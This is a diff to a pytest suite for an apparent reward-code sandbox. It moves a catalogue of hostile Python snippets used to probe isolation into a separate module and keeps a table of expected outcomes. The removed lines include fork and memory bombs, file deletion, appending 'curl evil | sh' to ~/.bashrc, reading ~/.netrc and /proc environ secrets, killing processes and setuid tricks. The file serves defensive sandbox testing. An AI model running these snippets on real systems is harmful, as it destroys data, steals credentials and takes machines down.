@@ -21,6 +21,7 @@ import pytest
 
 from personadrift.rewards import sandbox
 from personadrift.rewards.sandbox import ExecResult, Limits, isolation_report, run, run_many
+from tests.attacks import ATTACKS as ATTACK_SOURCES
 
 REPORT = isolation_report()
 FAST = Limits(timeout_s=1.0, cpu_s=1)
@@ -153,213 +154,44 @@ def world(monkeypatch):
 # Each attack prints its uid first, so the test can look for its leftovers.
 PRELUDE = "import os; print('uid=%d' % os.getuid(), flush=True)\n"
 
-ATTACKS = {
-    "infinite_loop": ("while True:\n    pass\n", {"timeout", "signal"}),
-    "fork_bomb": (
-        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
-        {"timeout", "signal"},
-    ),
-    "memory_bomb": ("x = bytearray(8 * 1024**3)\n", {"exit"}),
-    "memory_creep": (
-        "chunks = []\nwhile True:\n    chunks.append(b'x' * 10**7)\n",
-        {"exit", "signal"},
-    ),
-    "forked_memory": (
-        "import os, time\n"
-        "for _ in range(8):\n"
-        "    if os.fork() == 0:\n"
-        "        x = bytearray(200 * 2**20)\n"
-        "        time.sleep(5)\n"
-        "time.sleep(5)\n",
-        {"timeout", "signal"},
-    ),
-    "stdout_flood": (
-        "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 2**20)\n",
-        {"ok"},
-    ),
-    "stderr_flood": (
-        "import sys\nfor _ in range(100):\n    sys.stderr.write('y' * 2**20)\n",
-        {"ok"},
-    ),
-    "delete_cwd": (
-        "import os, shutil\n"
-        "try:\n    os.remove({cwd!r} + '/sentinel.txt')\nexcept OSError as e:\n    print(e)\n"
-        "try:\n    shutil.rmtree({cwd!r})\nexcept OSError as e:\n    print(e)\n",
-        {"ok"},
-    ),
-    "write_cwd": (
-        "for name in ('pwned', 'sentinel.txt'):\n"
-        "    try:\n"
-        "        open({cwd!r} + '/' + name, 'a').write('owned')\n"
-        "    except OSError as e:\n"
-        "        print(e)\n",
-        {"ok"},
-    ),
-    "conftest_in_cwd": (
-        "open({cwd!r} + '/conftest.py', 'w').write('import os; os._exit(0)')\n",
-        {"exit"},
-    ),
-    "write_home": (
-        "import os\n"
-        "for act in (lambda: open({home!r} + '/.bashrc', 'a').write('curl evil | sh'),\n"
-        "            lambda: os.remove({home!r} + '/notes.txt'),\n"
-        "            lambda: os.rename({home!r} + '/notes.txt', {home!r} + '/gone')):\n"
-        "    try:\n        act()\n    except OSError as e:\n        print(e)\n",
-        {"ok"},
-    ),
-    "read_home_secret": ("print(open({home!r} + '/.netrc').read())\n", {"exit"}),
-    "write_package": (
-        "import os\n"
-        "for name in ('__init__.py', 'sandbox.py', 'evil.py'):\n"
-        "    try:\n"
-        "        open(os.path.join({pkg!r}, name), 'a').write('\\nraise SystemExit')\n"
-        "    except OSError as e:\n"
-        "        print(e)\n",
-        {"ok"},
-    ),
-    "environment": (
-        "import os\nprint(dict(os.environ))\nprint(os.environ.get('PD_SECRET'))\n",
-        {"ok"},
-    ),
-    "proc_environ": (
-        "import os\n"
-        "for pid in ({me}, os.getppid(), 1, 'self'):\n"
-        "    try:\n"
-        "        print(open('/proc/%s/environ' % pid, 'rb').read())\n"
-        "    except OSError as e:\n"
-        "        print(e)\n"
-        "for pid in os.listdir('/proc'):\n"
-        "    try:\n"
-        "        print(open('/proc/%s/environ' % pid, 'rb').read())\n"
-        "    except OSError:\n"
-        "        pass\n",
-        {"ok"},
-    ),
-    "socket_localhost": (
-        "import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=0.5)\n",
-        {"exit"},
-    ),
-    "socket_outside": (
-        "import socket\n"
-        "for addr in (('1.1.1.1', 53), ('8.8.8.8', 80), ('example.com', 80)):\n"
-        "    try:\n"
-        "        socket.create_connection(addr, timeout=0.5)\n"
-        "        print('CONNECTED', addr)\n"
-        "    except OSError as e:\n"
-        "        print(e)\n",
-        {"ok"},
-    ),
-    "unix_abstract_socket": (
-        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0{unix}')\n",
-        {"exit"},
-    ),
-    "sys_exit_0": ("import sys\nsys.exit(0)\nraise AssertionError\n", {"ok"}),
-    "os_exit_0": ("import os\nos._exit(0)\n", {"ok"}),
-    "kill_parents": (
-        "import os, signal\n"
-        "for pid in (os.getppid(), {me}, {victim}, 1):\n"
-        "    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):\n"
-        "        try:\n            os.kill(pid, sig)\n        except OSError as e:\n            print(e)\n"
-        "for pgid in ({me}, {victim}):\n"
-        "    try:\n        os.killpg(pgid, signal.SIGKILL)\n    except OSError as e:\n        print(e)\n",
-        {"ok"},
-    ),
-    "kill_everything": (
-        "import os, signal\n"
-        "try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
-        "print('still here')\n",
-        {"ok"},
-    ),
-    "signal_tampering": (
-        "import signal, time\n"
-        "for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):\n"
-        "    signal.signal(s, signal.SIG_IGN)\n"
-        "signal.alarm(1)\n"
-        "while True:\n    time.sleep(0.01)\n",
-        {"timeout"},
-    ),
-    "inspect_frames": (
-        "import gc, inspect, sys\n"
-        "for frame in inspect.stack():\n"
-        "    print(frame.filename, frame.frame.f_globals.keys(), frame.frame.f_locals)\n"
-        "print([o for o in gc.get_objects() if isinstance(o, str) and 'secret' in o.lower()])\n"
-        "print(sys.argv, sys.orig_argv if hasattr(sys, 'orig_argv') else '')\n",
-        {"ok"},
-    ),
-    "recursion_bomb": (
-        "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n",
-        {"signal", "exit", "timeout"},
-    ),
-    "setsid_daemon": (
-        "import os, time\n"
-        "if os.fork() == 0:\n"
-        "    os.setsid()\n"
-        "    if os.fork() == 0:\n"
-        "        time.sleep(0.5)\n"
-        "        open({drop!r} + '/daemon-was-here', 'w').write('alive')\n"
-        "    os._exit(0)\n"
-        "print('parent leaves')\n",
-        {"ok"},
-    ),
-    "os_system": (
-        "__import__('os').system('echo $PD_SECRET; touch {cwd}/pwned; rm -f {cwd}/sentinel.txt;"
-        " cat {home}/.netrc; (sleep 1; touch {drop}/shell-was-here) &')\n",
-        {"ok"},
-    ),
-    "sleep_new_session": (
-        "import subprocess\n"
-        "p = subprocess.Popen(['sleep', '100'], start_new_session=True)\n"
-        "q = subprocess.Popen(['nohup', 'sleep', '100'], preexec_fn=__import__('os').setsid)\n"
-        "print(p.pid, q.pid)\n",
-        {"ok"},
-    ),
-    "huge_file": (
-        "import os\n"
-        "with open('big.bin', 'wb') as f:\n"
-        "    for _ in range(100):\n"
-        "        f.write(b'0' * 2**20)\n",
-        {"exit", "signal"},
-    ),
-    "chmod_tricks": (
-        "import os, shutil, sys\n"
-        "for path in ({cwd!r} + '/sentinel.txt', {cwd!r}, {home!r}, os.path.dirname(os.getcwd())):\n"
-        "    try:\n        os.chmod(path, 0o777)\n    except OSError as e:\n        print(e)\n"
-        "    try:\n        os.chown(path, os.getuid(), os.getgid())\n"
-        "    except OSError as e:\n        print(e)\n"
-        "open('suid', 'w').write('#!/bin/sh\\nid\\n')\n"
-        "os.chmod('suid', 0o6777)\n"
-        "os.chmod('.', 0o777)\n",
-        {"ok"},
-    ),
-    "symlink_escape": (
-        "import os\n"
-        "os.symlink({cwd!r} + '/sentinel.txt', 'link')\n"
-        "os.symlink({cwd!r}, 'dirlink')\n"
-        "try:\n    open('link', 'w').write('through the link')\nexcept OSError as e:\n    print(e)\n"
-        "try:\n    os.link({cwd!r} + '/sentinel.txt', 'hard')\nexcept OSError as e:\n    print(e)\n",
-        {"ok"},
-    ),
-    "raise_limits_and_uid": (
-        "import os, resource\n"
-        "for r in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
-        "    try:\n"
-        "        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
-        "    except (OSError, ValueError) as e:\n        print(e)\n"
-        "for f in (os.setuid, os.seteuid, os.setgid):\n"
-        "    try:\n        f(0)\n    except OSError as e:\n        print(e)\n",
-        {"ok"},
-    ),
-    "ptrace_victim": (
-        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
-        "for pid in ({victim}, {me}):\n"
-        "    print(libc.ptrace(16, pid, None, None), ctypes.get_errno())\n",
-        {"ok"},
-    ),
-    "hang_in_atexit": (
-        "import atexit, time\natexit.register(time.sleep, 100)\nprint('bye')\n",
-        {"timeout"},
-    ),
+# What each attack from tests/attacks.py may come back as.
+EXPECTED = {
+    "infinite_loop": {"timeout", "signal"},
+    "fork_bomb": {"timeout", "signal"},
+    "memory_bomb": {"exit"},
+    "memory_creep": {"exit", "signal"},
+    "forked_memory": {"timeout", "signal"},
+    "stdout_flood": {"ok"},
+    "stderr_flood": {"ok"},
+    "delete_cwd": {"ok"},
+    "write_cwd": {"ok"},
+    "conftest_in_cwd": {"exit"},
+    "write_home": {"ok"},
+    "read_home_secret": {"exit"},
+    "write_package": {"ok"},
+    "environment": {"ok"},
+    "proc_environ": {"ok"},
+    "socket_localhost": {"exit"},
+    "socket_outside": {"ok"},
+    "unix_abstract_socket": {"exit"},
+    "sys_exit_0": {"ok"},
+    "os_exit_0": {"ok"},
+    "kill_parents": {"ok"},
+    "kill_everything": {"ok"},
+    "signal_tampering": {"timeout"},
+    "inspect_frames": {"ok"},
+    "recursion_bomb": {"signal", "exit", "timeout"},
+    "setsid_daemon": {"ok"},
+    "os_system": {"ok"},
+    "sleep_new_session": {"ok"},
+    "huge_file": {"exit", "signal"},
+    "chmod_tricks": {"ok"},
+    "symlink_escape": {"ok"},
+    "raise_limits_and_uid": {"ok"},
+    "ptrace_victim": {"ok"},
+    "hang_in_atexit": {"timeout"},
 }
+ATTACKS = {name: (template, EXPECTED[name]) for name, template in ATTACK_SOURCES}
 
 
 @pytest.mark.parametrize("name", sorted(ATTACKS))
